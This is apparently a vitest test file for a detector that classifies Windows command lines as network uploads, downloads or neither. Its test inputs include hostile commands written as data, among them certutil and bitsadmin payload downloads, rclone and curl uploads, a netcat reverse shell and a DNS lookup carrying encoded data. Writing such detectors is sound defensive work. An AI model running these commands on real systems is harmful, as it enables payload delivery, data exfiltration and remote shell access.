import { describe, expect, it } from 'vitest';
import { describeTransfer } from '../describe-transfer.ts';
import { readTransfer } from '../read-transfer.ts';

/** `␣` is a blank within an argument. */
function told(line: string): string {
  const words = line.split(' ').map((word) => word.replaceAll('␣', ' '));
  const transfer = readTransfer(words, undefined, 'windows');
  return transfer === undefined ? 'none' : describeTransfer(transfer);
}

describe('programs of Windows', () => {
  it.each([
    [
      'bitsadmin /transfer j /upload /priority normal https://h/up C:\\a.zip',
      'bitsadmin: upload of files C:\\a.zip to https://h/up, encrypted',
    ],
    ['bitsadmin /create /upload j', 'bitsadmin: upload of unknown'],
    [
      'certreq -Post -config https://h/ C:\\a.txt',
      'certreq: upload of files C:\\a.txt to https://h/, encrypted',
    ],
    [
      'certreq -post -config https://h/ C:\\a.txt out',
      'certreq: upload of files C:\\a.txt to https://h/, encrypted',
    ],
    ['tftp -i h PUT a', 'tftp: upload of files a to tftp://h, clear'],
    ['curl.exe -F f=@C:\\a.zip https://h/', 'curl: upload of files C:\\a.zip to https://h/, encrypted'],
    ['scp.exe C:\\a u@h:/in', 'scp: upload of files C:\\a to scp://u@h/in, encrypted'],
    ['pscp.exe -pw x -P 22 C:\\a u@h:/in', 'scp: upload of files C:\\a to scp://u@h:22/in, encrypted'],
    ['plink.exe -ssh -pw x -R 1:2:3 u@h', 'ssh: both of unknown to ssh://u@h, encrypted'],
    [
      'winscp.com /ini=nul /command open␣sftp://u:p@h/ put␣C:\\a exit',
      'winscp: upload of files C:\\a to sftp://u@h/, encrypted',
    ],
    ['robocopy C:\\d \\\\h\\s /E', 'robocopy: upload of files C:\\d to smb://h:s'],
    ['esentutl.exe /y C:\\a /d \\\\h@SSL\\dav\\a /o', 'esentutl: upload of files C:\\a to webdav://h:dav\\a'],
    [
      'datasvcutil /out:C:\\a /uri:https://h/x',
      'datasvcutil: upload of files C:\\a to https://h/x, encrypted',
    ],
    [
      'ConfigSecurityPolicy.exe C:\\a https://h/x',
      'configsecuritypolicy: upload of files C:\\a to https://h/x, encrypted',
    ],
    ['nc64.exe -e cmd.exe h 443', 'netcat: both of command-output to tcp://h:443, clear'],
    ['C:\\x\\svc.exe copy C:\\d mega:b --config C:\\c', 'rclone: upload of files C:\\d to rclone://mega:b'],
    [
      'azcopy copy C:\\d https://acct.blob.core.windows.net/c?sig=x',
      'azcopy: upload of files C:\\d to https://acct.blob.core.windows.net/c, encrypted',
    ],
    ['git push', 'git: upload of files'],
    ['net use \\\\h\\s', 'net: both of unknown to smb://h:s'],
    ['aws s3 cp C:\\a s3://b', 'aws: upload of files C:\\a to s3://b, encrypted'],
    ['net use Z: \\\\h\\s', 'net: both of unknown to smb://h:s'],
  ])('carry something out: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('programs of Windows', () => {
  it.each([
    [
      'certutil.exe -urlcache -split -f https://h/a.exe a.exe',
      'certutil: download to https://h/a.exe, encrypted',
    ],
    [
      'C:\\Windows\\System32\\certutil.exe /urlcache /f http://h/a',
      'certutil: download to http://h/a, clear',
    ],
    [
      'bitsadmin /transfer j /download /priority high https://h/a C:\\a',
      'bitsadmin: download to https://h/a, encrypted',
    ],
    ['bitsadmin /transfer j https://h/a C:\\a', 'bitsadmin: download to https://h/a, encrypted'],
    ['bitsadmin /addfile j https://h/a C:\\a', 'bitsadmin: download to https://h/a, encrypted'],
    ['tftp -i h GET a b', 'tftp: download to tftp://h, clear'],
    ['xcopy \\\\h\\s C:\\d', 'xcopy: download to smb://h:s'],
    [
      'MpCmdRun.exe -DownloadFile -url https://h/a -path C:\\a',
      'mpcmdrun: download to https://h/a, encrypted',
    ],
    ['msiexec /q /i https://h/a.msi', 'msiexec: download to https://h/a.msi, encrypted'],
    ['C:\\x\\svc.exe -urlcache -f http://h/a', 'certutil: download to http://h/a, clear'],
    ['wget https://h -O C:\\a', 'wget: download to https://h, encrypted'],
  ])('only fetch: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('programs of Windows', () => {
  it.each([
    ['ftp -s:script.txt', 'ftp: unknown of unknown, clear'],
    ['ftp -n -s:c:\\s.txt h', 'ftp: unknown of unknown to ftp://h, clear'],
    ['ftp -i h', 'ftp: interactive of unknown to ftp://h, clear'],
    ['psftp -b s.txt u@h', 'sftp: unknown of unknown to sftp://u@h, encrypted'],
    ['winscp /script=x', 'winscp: unknown of unknown'],
    ['finger user@h', 'finger: unknown of literal to finger://h, clear'],
    [
      'nslookup aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ.t.example',
      'nslookup: unknown of literal, clear',
    ],
    ['ping -n 1 h', 'ping: unknown to icmp://h, clear'],
    ['ssh u@h', 'ssh: interactive of stdin to ssh://u@h, encrypted'],
  ])('do not say: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('programs of Windows', () => {
  it.each([
    ['certutil -encode a b', 'none'],
    ['bitsadmin /list', 'none'],
    ['certreq -new a.inf', 'none'],
    ['scp C:\\a D:\\b', 'none'],
    ['robocopy C:\\a D:\\b', 'none'],
    ['msiexec /i a.msi', 'none'],
    ['rclone.exe copy C:\\d r:b', 'none'],
    ['net use Z: /delete', 'none'],
    ['net view', 'none'],
  ])('move nothing over a network: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});
